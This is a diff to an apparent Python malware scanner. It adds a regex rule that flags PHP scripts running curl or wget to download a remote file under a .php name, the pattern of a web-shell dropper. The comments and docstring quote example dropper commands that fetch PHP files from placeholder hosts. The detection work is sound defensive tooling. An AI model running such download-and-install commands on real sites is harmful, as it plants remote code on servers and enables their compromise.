@@ -1485,6 +1485,34 @@ def _download_run(ctx: Ctx, rule: Rule) -> Hit | None:
     return None
 
 
+# one shell command that fetches a web address with curl or wget and saves it under a PHP
+# name (the literals' text is lower case, so wget's -O reads as curl's -o):
+# `curl -o up.php https://h/up.php`, `wget -O s.php http://h/s.txt`, `curl -O https://h/x.php`
+_SHELL_PHP_DOWNLOAD = re.compile(
+    rb"\b(?:wget|curl)\s(?=[^\x00;|&]{0,400}?(?:https?|ftp)://)[^\x00;|&]{0,400}?"
+    rb"(?:(?<![\w-])-o\s*|--output(?:-document)?[=\s]\s*|>\s*)"
+    rb"['\"]?[^\s'\"\x00;|&<>]*\.(?:php[3-8]?|phtml|pht)(?![\w.])"
+)
+
+
+@feature("shell_php_download")
+def _shell_php_download(ctx: Ctx, rule: Rule) -> Hit | None:
+    """A shell command the script runs (system, exec, shell_exec, passthru, popen,
+    proc_open, or a backtick string) that downloads a web address with curl or wget into a
+    file with a PHP name: remote code installed into the site, a dropper fetching its shell
+    from a paste or a repository (``shell_exec('curl -o up.php https://raw.../up.php')``).
+    Installers fetch archives and tools (``composer.phar``, ``latest.tar.gz``), and a cron
+    ping reads a page to ``/dev/null`` or ``-``: none of them saves PHP."""
+    if not (called_any(ctx, EXEC_NAMES_B) or "bq" in ctx.lx.kinds):
+        return None
+    text = string_text(ctx)
+    m = prefiltered_search(_SHELL_PHP_DOWNLOAD, text)
+    if m is None:
+        return None
+    at = string_at(ctx, m.start())
+    return Hit(ctx.line_of_string(max(0, at)), excerpt(m.group(0)))
+
+
 def _path_text(ctx: Ctx, expr: bytes) -> bytes:
     """A path expression and what its variables were set to (one level)."""
     out = [expr]
